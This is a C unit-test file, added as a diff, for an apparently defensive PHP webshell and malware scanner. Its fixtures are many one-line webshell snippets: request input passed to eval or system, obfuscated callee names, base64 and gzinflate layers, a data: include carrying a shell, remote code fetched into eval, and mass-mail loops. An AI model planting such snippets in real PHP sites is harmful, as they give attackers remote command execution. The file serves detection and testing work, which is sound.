@@ -1,0 +1,557 @@
+/* The PHP analysis: folding, decoding, input -> sink paths, callbacks,
+ * decoded layers; the idioms of real applications that must stay quiet;
+ * and hostile input (deep nesting, decode bombs, endless layers). Every
+ * snippet is written here: variants of the techniques, not corpus files. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <zlib.h>
+
+#include "scan/php_analyze.h"
+#include "scan/php_fold.h"
+
+static struct php_result res;
+
+static void run(const char *src)
+{
+	php_result_free(&res);
+	php_eval((const unsigned char *)src, strlen(src), false, NULL, &res);
+}
+
+static const struct php_hit *find(const char *rule)
+{
+	for (size_t i = 0; i < res.nhits; i++)
+		if (!strcmp(res.hits[i].rule, rule))
+			return &res.hits[i];
+	return NULL;
+}
+
+/* src must give rule at severity >= sev */
+static void expect(const char *src, const char *rule, enum hs_severity sev)
+{
+	run(src);
+	const struct php_hit *h = find(rule);
+	if (!h) {
+		fprintf(stderr, "missing %s in: %s\n", rule, src);
+		for (size_t i = 0; i < res.nhits; i++)
+			fprintf(stderr, "  got %s: %s\n", res.hits[i].rule, res.hits[i].evidence);
+	}
+	assert_non_null(h);
+	assert_true(h->sev >= sev);
+}
+
+static void quiet(const char *src)
+{
+	run(src);
+	for (size_t i = 0; i < res.nhits; i++)
+		fprintf(stderr, "unexpected %s: %s\n", res.hits[i].rule, res.hits[i].evidence);
+	assert_int_equal(res.nhits, 0);
+}
+
+static void test_input_to_eval_and_command(void **state)
+{
+	(void)state;
+	expect("<?php eval($_POST['x']);", "php.input_to_eval", HS_SEV_CRITICAL);
+	assert_non_null(strstr(find("php.input_to_eval")->evidence, "$_POST['x']"));
+	expect("<?php @assert(stripslashes(trim($_REQUEST['e'])));", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $c = $_GET['c']; $d = $c; system($d . ' 2>&1');", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	/* the path names the variables it went through */
+	assert_non_null(strstr(find("php.input_to_command")->evidence, "$c -> $d"));
+	expect("<?php echo `{$_GET['c']}`;", "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php passthru(\"$_COOKIE[c]\");", "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $h = getallheaders(); eval($h['X-Run']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php eval($_SERVER['HTTP_X_CODE']);", "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php eval(file_get_contents('php://input'));", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php proc_open($_POST['c'], array(), $p);", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	/* a shell's -c: the input is the command */
+	expect("<?php exec('/bin/sh -c ' . $_GET['c']);", "php.input_to_command", HS_SEV_CRITICAL);
+}
+
+static void test_folded_sources(void **state)
+{
+	(void)state;
+	expect("<?php $p = ${\"_PO\" . \"ST\"}; eval($p['x']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php system($GLOBALS['_GET']['c']);", "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $n = '_REQ' . 'UEST'; $v = $$n; eval($v['z']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php extract($_POST); system($cmd);", "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php parse_str($_SERVER['QUERY_STRING']); eval($code);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $a = array_merge($_GET, $_POST); shell_exec($a['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php foreach ($_POST as $k => $v) { $$k = $v; } eval($payload);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+}
+
+static void test_functions_objects(void **state)
+{
+	(void)state;
+	expect("<?php function run($a) { return shell_exec($a); } echo run($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php function src() { return $_POST['c']; } eval(src());", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php x($_GET['q']); function x($v) { y($v); } function y($w) { eval($w); }",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php class K { public $c; function __destruct() { eval($this->c); } }\n"
+	       "$k = new K(); $k->c = $_REQUEST['k'];",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php class L { function __construct($x) { $this->x = $x; }\n"
+	       "function __toString() { system($this->x); return ''; } } echo new L($_GET['l']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $f = function($s) { eval($s); }; $f($_POST['s']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $g = fn($s) => assert($s); $g($_POST['s']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php function w() { $a = func_get_args(); eval($a[0]); } w($_GET['w']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	/* object injection: the gadget's properties come from the request */
+	expect(
+	    "<?php class G { public $c; function __toString() { system($this->c); return ''; } }\n"
+	    "echo unserialize(base64_decode($_POST['o']));",
+	    "php.input_to_command", HS_SEV_CRITICAL);
+	/* a folded callee in a callback's second argument */
+	expect("<?php $a = array($_COOKIE['c']); array_walk($a, 'sh' . 'ell_' . 'exec');",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	/* a wrapper that tries one command function after another */
+	expect("<?php function x1($c) { if (function_exists('exec')) { exec($c, $o); }\n"
+	       "elseif (is_callable('shell_exec')) { $o = shell_exec($c); }\n"
+	       "else { ob_start(); passthru($c); $o = ob_get_clean(); } return $o; }",
+	       "php.command_wrapper", HS_SEV_MEDIUM);
+	quiet("<?php function ver() { exec('git --version', $o); return $o; }\n"
+	      "function run($c) { return shell_exec(escapeshellcmd($c)); }");
+	/* a function calling itself stays bounded */
+	expect("<?php function r($x) { r($x); eval($x); } r($_GET['r']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+}
+
+static void test_callbacks(void **state)
+{
+	(void)state;
+	expect("<?php call_user_func('assert', $_POST['a']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php call_user_func_array('system', array($_GET['c']));", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect("<?php array_map('assert', array($_POST['m']));", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php array_filter(array($_POST['f']), 'assert');", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $a = array($_GET['u'], 1); usort($a, 'system');", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect("<?php register_shutdown_function('passthru', $_REQUEST['s']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php array_walk($_POST, function($v) { eval($v); });", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php preg_replace_callback('/.+/', 'system', $_GET['p']);", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect("<?php $r = new ReflectionFunction('system'); $r->invoke($_GET['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php filter_var($_GET['x'], FILTER_CALLBACK, array('options' => 'assert'));",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php array_intersect_ukey(array($_POST['k'] => 1), array(1), 'assert');",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	/* the callee itself is input */
+	expect("<?php $_GET['f']($_GET['a']);", "php.dynamic_call_input", HS_SEV_CRITICAL);
+	expect("<?php $f = $_POST['f']; call_user_func($f, 'x');", "php.dynamic_call_input",
+	       HS_SEV_CRITICAL);
+	expect("<?php ob_start('assert'); echo $_GET['x'];", "php.dynamic_dangerous_call",
+	       HS_SEV_NONE + 0);
+}
+
+static void test_folding_callees(void **state)
+{
+	(void)state;
+	expect("<?php $x = str_rot13('flfgrz'); $x($_GET['c']);", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	assert_non_null(strstr(find("php.obfuscated_callee")->evidence, "str_rot13"));
+	assert_non_null(find("php.input_to_command"));
+	expect(
+	    "<?php $f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109); $f('id');",
+	    "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = strrev('tressa'); $f($_POST['z']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $k = 'abcdefghijklmnopqrstuvwxyz'; $f = $k[4] . $k[23] . $k[4] . $k[2];\n"
+	       "$f('whoami');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = base64_decode('c2hlbGxfZXhlYw=='); echo $f('id');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = hex2bin('73797374656d'); $f('id');", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	expect("<?php $f = pack('H*', '706173737468727520'); $f = trim($f); $f('id');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = implode('', array('as', 'se', 'rt')); $f($_POST['i']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $f = join('', array_map('chr', array(101, 120, 101, 99))); $f('id');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = str_replace('#', '', 'a#s#s#e#r#t'); $f($_GET['r']);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $f = preg_replace('/[0-9]/', '', 'sy1st2em'); $f('ls');",
+	       "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = strtolower('SYSTEM'); $f('ls');", "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php $f = substr('xxsystemyy', 2, 6); $f('ls');", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	expect("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f('ls');", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	expect("<?php $f = urldecode('%73%79%73%74%65%6d'); $f('ls');", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	expect("<?php $f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f('ls');", "php.obfuscated_callee",
+	       HS_SEV_HIGH);
+	/* XOR and NOT of strings, numbers written without digits */
+	expect("<?php $h = ('!' ^ '@') . 'ssert'; $h($_GET['x']);", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $o = ('>' > '<') + ('>' > '<'); $s = substr('xxassert', $o); $s($_POST[1]);",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php define('F', 'sys' . 'tem'); $f = F; $f($_GET['c']);", "php.input_to_command",
+	       HS_SEV_CRITICAL);
+	expect(
+	    "<?php $a = array('k' => 'shell_', 'v' => 'exec'); $f = $a['k'] . $a['v']; $f('id');",
+	    "php.obfuscated_callee", HS_SEV_HIGH);
+	expect("<?php list($a, $b) = array('pass', 'thru'); $f = $a . $b; $f($_GET['p']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $c = 'cre' . 'ate_function'; $f = $c('', $_POST['b']); $f();",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+}
+
+static void test_preg_e_and_includes(void **state)
+{
+	(void)state;
+	expect("<?php preg_replace('/.*/e', $_POST['c'], '');", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	expect("<?php $m = 'e'; preg_replace('/x/' . $m, $_REQUEST['c'], 'x');",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php include $_GET['page'];", "php.input_to_include", HS_SEV_HIGH);
+	expect("<?php @include \"\\057h\\157me/u/public_html/wp-content/uploads/x.ico\";",
+	       "php.obfuscated_include", HS_SEV_HIGH);
+	expect("<?php include_once '/home/u/public_html/images/favicon_3ad1.ico';",
+	       "php.include_nonphp", HS_SEV_MEDIUM);
+	expect("<?php include 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==';",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	/* the data: payload is a layer of its own, with the command in it */
+	assert_non_null(find("php.input_to_command"));
+	expect("<?php include 'php://input';", "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php $r = $_REQUEST; require 'data://text/plain;base64,' . $r['i'];",
+	       "php.input_to_eval", HS_SEV_CRITICAL);
+	expect("<?php include base64_decode('L3RtcC8uY2FjaGUvaWNvbl8xLnBuZw==');",
+	       "php.obfuscated_include", HS_SEV_HIGH);
+	expect("<?php file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/x/y.php',\n"
+	       "  base64_decode('PD9waHAgZWNobyAxOw=='));",
+	       "php.remote_code_drop", HS_SEV_HIGH);
+	expect(
+	    "<?php file_put_contents(__DIR__ . '/c.php', file_get_contents('http://e.invalid/a'));",
+	    "php.remote_code_drop", HS_SEV_HIGH);
+	expect("<?php eval(file_get_contents('http://example.invalid/x.txt'));",
+	       "php.remote_code_exec", HS_SEV_HIGH);
+	expect("<?php copy('http://example.invalid/s.txt', 'cache.php');", "php.remote_code_drop",
+	       HS_SEV_HIGH);
+	expect("<?php $s = fsockopen($_GET['h'], 80); $code = fread($s, 4096); eval($code);",
+	       "php.remote_code_exec", HS_SEV_HIGH);
+}
+
+/* base64 of s, as PHP's base64_encode would write it */
+static char *b64(const char *s, size_t n)
+{
+	struct fbuf b = {0};
+	fbuf_reset(&b, 1u << 26);
+	assert_true(fold_base64_encode(&b, (const unsigned char *)s, n));
+	char *o = malloc(b.n + 1);
+	memcpy(o, b.p, b.n);
+	o[b.n] = 0;
+	fbuf_free(&b);
+	return o;
+}
+
+/* raw deflate of s (what gzinflate undoes) */
+static size_t deflate_raw(const char *s, size_t n, unsigned char *out, size_t cap)
+{
+	z_stream z;
+	memset(&z, 0, sizeof(z));
+	assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, -15, 9, Z_DEFAULT_STRATEGY), Z_OK);
+	z.next_in = (unsigned char *)s;
+	z.avail_in = (uInt)n;
+	z.next_out = out;
+	z.avail_out = (uInt)cap;
+	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
+	size_t got = cap - z.avail_out;
+	deflateEnd(&z);
+	return got;
+}
+
+static void test_decoded_layers(void **state)
+{
+	(void)state;
+	const char *inner = "if (isset($_GET['z'])) { system($_GET['z']); }";
+	char *e = b64(inner, strlen(inner));
+	char src[4096];
+	snprintf(src, sizeof(src), "<?php function theme_x() {}\neval(base64_decode('%s'));", e);
+	expect(src, "php.decoded_layer_exec", HS_SEV_MEDIUM);
+	const struct php_hit *h = find("php.input_to_command");
+	assert_non_null(h);
+	assert_int_equal(h->layer, 1);
+	assert_int_equal(res.nlayers, 1);
+	assert_non_null(memmem(res.layers[0].buf, res.layers[0].len, "system($_GET", 12));
+	free(e);
+
+	/* gzinflate(base64_decode(...)) with the payload built here */
+	unsigned char z[1024];
+	size_t zl = deflate_raw(inner, strlen(inner), z, sizeof(z));
+	e = b64((const char *)z, zl);
+	snprintf(src, sizeof(src), "<?php $x = '%s'; eval(gzinflate(base64_decode($x)));", e);
+	expect(src, "php.input_to_command", HS_SEV_CRITICAL);
+	assert_int_equal(find("php.input_to_command")->layer, 1);
+	free(e);
+
+	/* str_rot13 + strrev of a layer */
+	expect("<?php eval(str_rot13(strrev(';)]\\'p\\'[GFBC_$(gerffn')));", "php.input_to_eval",
+	       HS_SEV_CRITICAL);
+	/* an unknown payload decoded into eval is suspicious on its own */
+	expect("<?php $d = file_get_contents(__FILE__); eval(gzinflate(base64_decode(substr($d, "
+	       "9))));",
+	       "php.obfuscated_eval", HS_SEV_MEDIUM);
+}
+
+static void test_uploads_writes_mail(void **state)
+{
+	(void)state;
+	expect("<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
+	       "php.upload_write", HS_SEV_HIGH);
+	expect("<?php file_put_contents($_POST['n'], $_POST['d']);", "php.input_to_file_write",
+	       HS_SEV_HIGH);
+	expect("<?php $h = fopen($_GET['p'], 'w'); fwrite($h, $_POST['c']);",
+	       "php.input_to_file_write", HS_SEV_HIGH);
+	expect("<?php foreach (explode(\"\\n\", $_POST['emails']) as $to) "
+	       "{ mail($to, $_POST['s'], $_POST['b']); }",
+	       "php.mass_mail_loop", HS_SEV_HIGH);
+	expect("<?php $l = file($_FILES['list']['tmp_name']); for ($i = 0; $i < count($l); $i++) "
+	       "mail($l[$i], 's', 'b');",
+	       "php.mass_mail_loop", HS_SEV_HIGH);
+	expect(
+	    "<?php $m = new PHPMailer(); $fp = fopen('list.txt', 'r');\n"
+	    "while (($line = fgets($fp)) !== false) { $m->addAddress(trim($line)); $m->Send(); }",
+	    "php.mass_mail_loop", HS_SEV_HIGH);
+	expect("<?php $l = array_filter(array_map('trim', explode(',', $_POST['to'] ?? '')));\n"
+	       "foreach ($l as $a) { mail($a, 's', 'b'); }",
+	       "php.mass_mail_loop", HS_SEV_HIGH);
+	expect("<?php iterator_apply(new ArrayIterator(array(1)), 'system', array($_GET['a']));",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+	expect("<?php $w = new COM('WScript.Shell'); $w->exec('cmd.exe /c ' . $_POST['c']);",
+	       "php.input_to_command", HS_SEV_CRITICAL);
+}
+
+/* What real applications do, that is not a webshell or a mailer. */
+static void test_application_idioms_are_quiet(void **state)
+{
+	(void)state;
+	/* a compiled template */
+	quiet("<?php $tpl = file_get_contents($this->cache . '/t.php'); eval('?>' . $tpl);");
+	/* a fixed command with escaped arguments */
+	quiet("<?php exec('convert ' . escapeshellarg($_FILES['img']['tmp_name']) . ' -resize 64 '"
+	      " . escapeshellarg($out), $o, $rc);");
+	quiet("<?php system('/usr/bin/uptime');");
+	/* an updater downloading a zip */
+	quiet("<?php $tmp = download_url('https://downloads.example.org/latest.zip');\n"
+	      "copy('https://downloads.example.org/latest.zip', $dir . '/latest.zip');");
+	/* an upload handler that checks the type and writes into uploads */
+	quiet("<?php $ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));\n"
+	      "if (in_array($ext, array('jpg', 'png')) && getimagesize($_FILES['f']['tmp_name']))\n"
+	      "  move_uploaded_file($_FILES['f']['tmp_name'], $uploads . '/' . "
+	      "md5($_FILES['f']['name'])"
+	      " . '.' . $ext);");
+	/* a newsletter over subscribers from the database, behind a capability check */
+	quiet("<?php if (current_user_can('manage_options')) {\n"
+	      "  foreach ($wpdb->get_results('SELECT email FROM subs') as $s)\n"
+	      "    wp_mail($s->email, $_POST['subject'], $_POST['body']); }");
+	/* a validated number in a fixed command line */
+	quiet("<?php $n = isset($_GET['n']) && is_numeric($_GET['n']) ? $_GET['n'] : 6;\n"
+	      "popen('rrdtool graph --start -' . $n . 'h', 'r');");
+	/* a host name in a fixed config path */
+	quiet("<?php $h = preg_replace('/:.*/', '', $_SERVER['HTTP_HOST']);\n"
+	      "if (file_exists('/etc/app/config-' . $h . '.php')) require_once '/etc/app/config-' "
+	      ". $h . '.php';");
+	/* dispatch through callbacks of plain functions */
+	quiet("<?php $a = array_map('trim', $_POST); usort($rows, 'cmp'); "
+	      "call_user_func(array($this, 'x'));");
+	/* a language file that lists function names */
+	quiet("<?php $language_data = array('KEYWORDS' => array(1 => array('eval', 'system',\n"
+	      "'exec', 'shell_exec', 'passthru', 'assert', 'base64_decode', 'create_function')));");
+	/* constants and plain includes */
+	quiet("<?php require_once ABSPATH . 'wp-settings.php'; include __DIR__ . '/x.php';\n"
+	      "require_once 'templates/notice.txt';");
+	/* a contact form: input in the body of one mail */
+	quiet("<?php mail('admin@example.org', 'Contact', $_POST['message']);");
+	/* a sanitized name */
+	quiet("<?php $n = preg_replace('/[^a-z0-9]/', '', $_GET['n']); include 'pages/' . $n . "
+	      "'.php';");
+}
+
+static void test_not_php_code(void **state)
+{
+	(void)state;
+	const char *md = "# Docs\nCall `shell_exec($_GET['x'])` like this:\n\n```php\n"
+	                 "<?php shell_exec($_GET['x']); ?>\n```\n";
+	assert_false(php_is_code((const unsigned char *)md, strlen(md), "md"));
+	const char *js = "var s = '<?php eval($_POST[1]); ?>'; shell_exec(x);";
+	assert_false(php_is_code((const unsigned char *)js, strlen(js), "js"));
+	const char *notag = "shell_exec($_GET['x']);";
+	assert_false(php_is_code((const unsigned char *)notag, strlen(notag), "php"));
+	const char *php = "<?php shell_exec($_GET['x']);";
+	assert_true(php_is_code((const unsigned char *)php, strlen(php), "txt"));
+	assert_true(php_is_code((const unsigned char *)php, strlen(php),
+	                        "js")); /* it starts with the tag */
+	struct php_result r;
+	assert_false(php_analyze((const unsigned char *)md, strlen(md), "md", &r));
+}
+
+static void test_hostile_nesting(void **state)
+{
+	(void)state;
+	size_t depth = 100000;
+	char *s = malloc(3 * depth + 64);
+	strcpy(s, "<?php eval(");
+	size_t n = strlen(s);
+	memset(s + n, '(', depth);
+	n += depth;
+	memcpy(s + n, "$_GET['x']", 10);
+	n += 10;
+	memset(s + n, ')', depth);
+	n += depth;
+	strcpy(s + n, ");");
+	run(s);
+	assert_true(res.truncated);
+	/* braces: statements nested as deep */
+	strcpy(s, "<?php ");
+	n = 6;
+	memset(s + n, '{', depth);
+	n += depth;
+	memcpy(s + n, "eval($_GET['y']);", 17);
+	n += 17;
+	memset(s + n, '}', depth);
+	s[n + depth] = 0;
+	run(s);
+	assert_true(res.truncated);
+	/* unbalanced */
+	memset(s, '(', 3 * depth);
+	memcpy(s, "<?php f", 7);
+	s[3 * depth] = 0;
+	run(s);
+	free(s);
+}
+
+static void test_hostile_decoding(void **state)
+{
+	(void)state;
+	/* a decode bomb: 64 MB of zeros in a few KB of deflate */
+	size_t big = 64u * 1024 * 1024;
+	char *zeros = calloc(1, big);
+	unsigned char *z = malloc(1u << 20);
+	size_t zl = deflate_raw(zeros, big, z, 1u << 20);
+	free(zeros);
+	char *e = b64((const char *)z, zl);
+	free(z);
+	size_t sl = strlen(e) + 64;
+	char *src = malloc(sl);
+	snprintf(src, sl, "<?php eval(gzinflate(base64_decode('%s')));", e);
+	free(e);
+	run(src);
+	size_t total = 0;
+	for (size_t i = 0; i < res.nlayers; i++)
+		total += res.layers[i].len;
+	assert_true(total <= 16u * 1024 * 1024);
+	assert_non_null(find("php.obfuscated_eval")); /* not decoded, still suspicious */
+	free(src);
+
+	/* 100 nested layers of eval(base64_decode(...)) */
+	char *cur = strdup("system($_GET['deep']);");
+	for (int i = 0; i < 100; i++) {
+		char *b = b64(cur, strlen(cur));
+		size_t l = strlen(b) + 32;
+		char *next = malloc(l);
+		snprintf(next, l, "eval(base64_decode('%s'));", b);
+		free(b);
+		free(cur);
+		cur = next;
+		if (strlen(cur) > 4u * 1024 * 1024)
+			break;
+	}
+	size_t l = strlen(cur) + 8;
+	src = malloc(l);
+	snprintf(src, l, "<?php %s", cur);
+	free(cur);
+	run(src);
+	assert_non_null(find("php.decoded_layer_exec"));
+	assert_true(res.nlayers <= PHP_MAX_LAYERS);
+	free(src);
+
+	/* a string doubled until the bound */
+	size_t reps = 200000;
+	src = malloc(16 + reps * 7);
+	strcpy(src, "<?php $a='xy';");
+	char *p = src + strlen(src);
+	for (size_t i = 0; i < reps; i++, p += 7)
+		memcpy(p, "$a.=$a;", 7);
+	*p = 0;
+	run(src);
+	free(src);
+}
+
+static void test_fold_primitives(void **state)
+{
+	(void)state;
+	struct fbuf b = {0};
+	fbuf_reset(&b, 64);
+	assert_true(fold_base64(&b, (const unsigned char *)"c3lz\ndGVt", 9));
+	assert_memory_equal(b.p, "system", 6);
+	fbuf_reset(&b, 64);
+	assert_true(fold_rot13(&b, (const unsigned char *)"flfgrz", 6));
+	assert_memory_equal(b.p, "system", 6);
+	fbuf_reset(&b, 64);
+	assert_false(fold_hex2bin(&b, (const unsigned char *)"abc", 3)); /* odd length */
+	fbuf_reset(&b, 64);
+	assert_true(
+	    fold_bitwise(&b, (const unsigned char *)"ab", 2, (const unsigned char *)"   ", 3, '|'));
+	assert_int_equal(b.n, 3);
+	fbuf_reset(&b, 64);
+	assert_true(fold_uudecode(&b, (const unsigned char *)"&<WES=&5M\n`\n", 12));
+	assert_memory_equal(b.p, "system", 6);
+	fbuf_reset(&b, 64);
+	assert_true(fold_entities(&b, (const unsigned char *)"&lt;?php &#x41;&#66;", 20));
+	assert_memory_equal(b.p, "<?php AB", 8);
+	fbuf_reset(&b, 64);
+	assert_true(
+	    fold_trim(&b, (const unsigned char *)"xxsysxx", 7, (const unsigned char *)"x", 1, 'b'));
+	assert_memory_equal(b.p, "sys", 3);
+	fbuf_reset(&b, 4); /* the bound */
+	assert_false(fold_strrev(&b, (const unsigned char *)"abcdef", 6));
+	fbuf_free(&b);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+	    cmocka_unit_test(test_input_to_eval_and_command),
+	    cmocka_unit_test(test_folded_sources),
+	    cmocka_unit_test(test_functions_objects),
+	    cmocka_unit_test(test_callbacks),
+	    cmocka_unit_test(test_folding_callees),
+	    cmocka_unit_test(test_preg_e_and_includes),
+	    cmocka_unit_test(test_decoded_layers),
+	    cmocka_unit_test(test_uploads_writes_mail),
+	    cmocka_unit_test(test_application_idioms_are_quiet),
+	    cmocka_unit_test(test_not_php_code),
+	    cmocka_unit_test(test_hostile_nesting),
+	    cmocka_unit_test(test_hostile_decoding),
+	    cmocka_unit_test(test_fold_primitives),
+	};
+	int r = cmocka_run_group_tests(tests, NULL, NULL);
+	php_result_free(&res);
+	return r;
+}
